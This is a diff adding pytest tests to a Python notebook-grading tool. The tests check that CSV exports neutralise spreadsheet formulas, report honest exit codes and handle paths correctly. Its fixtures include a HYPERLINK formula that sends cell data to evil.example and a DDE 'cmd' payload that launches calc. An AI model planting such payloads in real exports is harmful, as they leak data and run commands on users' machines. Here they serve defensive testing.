@@ -1,0 +1,171 @@
+"""Issue 13, points 4, 5, 6 and 8: safe release, honest exit codes and paths, spreadsheet
+safety, and sidecar durability."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import nbformat
+import pytest
+
+import collabkit
+from collabkit.assess.grading import grade
+from collabkit.cli import main
+from tests.assess.test_grading import MAXIMUM, QUESTIONS, own_key, submission, write
+
+HOSTILE_ID = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+HOSTILE_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _rows(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def _formula_cells(rows: list[list[str]]) -> list[str]:
+    """Cells a spreadsheet would run as a formula (genuine numbers are harmless)."""
+    found = []
+    for row in rows:
+        for cell in row:
+            if cell.startswith(FORMULA_STARTS):
+                try:
+                    float(cell)
+                except ValueError:
+                    found.append(cell)
+    return found
+
+
+# -- 6. spreadsheet safety --------------------------------------------------------------
+
+
+@pytest.mark.parametrize("fmt", ["canvas", "moodle", "long"])
+def test_hostile_id_and_answer_are_neutralised_in_every_csv(tmp_path, fmt):
+    first = QUESTIONS[0]
+    folder = tmp_path / "in"
+    folder.mkdir()
+    answers = {q.id: [own_key(q, HOSTILE_ID)] for q in QUESTIONS}
+    free = next(q for q in QUESTIONS if q.kind == "text")
+    answers[free.id] = [HOSTILE_ANSWER]
+    write(folder, "evil.ipynb", submission(HOSTILE_ID, answers))
+    write(folder, "tab.ipynb", submission("\tbob", {first.id: [own_key(first, "\tbob")]}))
+    (folder / "-broken.ipynb").write_text('{"cells": [', encoding="utf-8")
+    out = tmp_path / "out"
+    assert main(["grade", str(folder), "--out", str(out), "--format", fmt]) == 0
+    assert main(["report", str(out)]) == 0
+    for name in ("gradebook.csv", "scores_long.csv", "problems.csv", "item_analysis.csv"):
+        rows = _rows(out / name)
+        assert _formula_cells(rows) == [], name
+    long = _rows(out / "scores_long.csv")
+    ids = {row[0] for row in long[1:]}
+    assert ids == {"'" + HOSTILE_ID, "'\tbob"}
+    answers_written = {row[8] for row in long[1:] if row[2] == free.id}
+    assert "'" + HOSTILE_ANSWER in answers_written
+    book = _rows(out / "gradebook.csv")
+    if fmt != "long":  # the totals stay plain numbers
+        hostile = next(row for row in book if "'" + HOSTILE_ID in row)
+        assert float(hostile[-1]) == pytest.approx(MAXIMUM - free.points)
+    problems = _rows(out / "problems.csv")
+    assert any(row[0].endswith("-broken.ipynb") for row in problems[1:])
+
+
+def test_neutralise_keeps_genuine_numbers_and_quotes_formulas():
+    from collabkit.assess.spreadsheet import neutralise
+
+    for number in ("-1.5", "+2", "-0.25e-3", "3", "-7."):
+        assert neutralise(number) == number
+    for formula in ("=1+1", "-1+2", "+A1", "@x", "\tx", "\rx", "-", "-cmd|x"):
+        assert neutralise(formula) == "'" + formula
+    assert neutralise(-3.0) == -3.0 and neutralise(None) is None
+    assert neutralise("'=already") == "'=already"
+
+
+# -- 5. honest exit codes and paths -----------------------------------------------------
+
+
+def test_a_notebook_filter_naming_no_notebook_is_a_usage_error(tmp_path, capsys):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    write(folder, "a.ipynb", submission("alice", {QUESTIONS[0].id: [QUESTIONS[0].key]}))
+    out = tmp_path / "out"
+    assert main(["grade", str(folder), "--out", str(out), "--notebook", "09"]) == 2
+    err = capsys.readouterr().err
+    assert "no notebook 09" in err and "01" in err
+    assert not out.exists()
+
+
+def test_a_run_that_grades_nobody_exits_1_and_lists_the_files(tmp_path, capsys):
+    folder = tmp_path / "in"
+    folder.mkdir()
+    (folder / "a.ipynb").write_text('{"cells": [', encoding="utf-8")
+    nbformat.write(nbformat.v4.new_notebook(), folder / "b.ipynb")
+    out = tmp_path / "out"
+    assert main(["grade", str(folder), "--out", str(out)]) == 1
+    assert "nobody was graded" in capsys.readouterr().err
+    assert _rows(out / "gradebook.csv")[2:] == []  # header and points possible only
+    listed = {Path(row[0]).name for row in _rows(out / "problems.csv")[1:]}
+    assert listed == {"a.ipynb", "b.ipynb"}
+
+
+def test_relative_paths_are_reported_as_given_and_read_from_anywhere(tmp_path, monkeypatch):
+    from collabkit.assess import grading
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    write(folder, "a.ipynb", submission("alice", {QUESTIONS[0].id: [QUESTIONS[0].key]}))
+    monkeypatch.chdir(tmp_path)
+    seen = []
+    real = grading._grade_one
+
+    def elsewhere(path, *rest):  # a worker that runs in another folder
+        seen.append(path)
+        monkeypatch.chdir("/")
+        try:
+            return real(path, *rest)
+        finally:
+            monkeypatch.chdir(tmp_path)
+
+    monkeypatch.setattr(grading, "_grade_one", elsewhere)
+    run = grade([Path("in/a.ipynb")])
+    assert seen == [str(tmp_path / "in" / "a.ipynb")]
+    assert [g.student_id for g in run.graded] == ["alice"]
+    assert run.graded[0].path == Path("in/a.ipynb")
+
+
+def test_a_worker_failure_names_the_submission(tmp_path, monkeypatch, capsys):
+    from collabkit.assess import grading
+
+    folder = tmp_path / "in"
+    folder.mkdir()
+    write(folder, "alice.ipynb", submission("alice", {QUESTIONS[0].id: [QUESTIONS[0].key]}))
+
+    def broken(*args, **kwargs):
+        raise MemoryError("worker ran out of memory")
+
+    monkeypatch.setattr(grading, "score_submission", broken)
+    assert main(["grade", str(folder), "--out", str(tmp_path / "out")]) == 2
+    err = capsys.readouterr().err
+    assert "alice.ipynb" in err and "MemoryError" in err
+
+
+def test_dask_workers_in_another_folder_grade_correctly(tmp_path, monkeypatch):
+    distributed = pytest.importorskip(
+        "dask.distributed", reason="dask[distributed] is not installed: LocalCluster not tested"
+    )
+    folder = tmp_path / "in"
+    folder.mkdir()
+    write(folder, "a.ipynb", submission("alice", {q.id: [own_key(q, "alice")] for q in QUESTIONS}))
+    elsewhere = tmp_path / "workers"
+    elsewhere.mkdir()
+    monkeypatch.chdir(elsewhere)  # the workers start here: "in/a.ipynb" does not exist there
+    with distributed.LocalCluster(n_workers=1, processes=True, threads_per_worker=1) as cluster:
+        monkeypatch.chdir(tmp_path)
+        run = grade([Path("in/a.ipynb")], scheduler=cluster.scheduler_address)
+    assert [(g.student_id, g.total("01")) for g in run.graded] == [("alice", MAXIMUM)]
+
+
+def test_every_notebook_with_questions_is_a_known_filter(tmp_path):
+    from collabkit.course import NOTEBOOK_TITLES
+
+    assert {q.notebook for q in collabkit.all_questions()} <= set(NOTEBOOK_TITLES)
